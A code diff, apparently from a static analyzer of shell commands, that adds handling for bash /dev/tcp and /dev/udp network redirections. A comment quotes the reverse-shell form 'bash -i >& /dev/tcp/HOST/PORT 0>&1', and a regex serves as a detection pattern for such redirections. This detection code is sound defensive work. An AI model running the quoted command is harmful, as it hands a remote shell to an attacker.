@@ -96,6 +96,11 @@ export function lowerCommand(em: Emitter, line: number, cmd: Val): Val | undefin
   const text = cmd.s;
   if (!text) return undefined;
   const base = carry(cmd);
+  // (bash's network redirections, `bash -i >& /dev/tcp/HOST/PORT 0>&1`, are the shell's: its lowering reads them)
+  if (/\/dev\/(?:tcp|udp)\//.test(text)) {
+    for (const e of lowerShell(text, { file: em.file, firstLine: line, reach: em.reach, scope: `${em.file}:started:${line}`, lang: em.lang, decoded: em.decodedDepth > 0 || cmd.origin === 'decoded' })) em.effects.push({ ...e, line, consumes: [...new Set([...(e.consumes ?? []), ...base.keys])] });
+    return undefined;
+  }
   const stored: Val[] = [];
   for (const pipe of pipelines(text.length > 20000 ? text.slice(0, 20000) : text)) {
     let prev: Val | undefined;
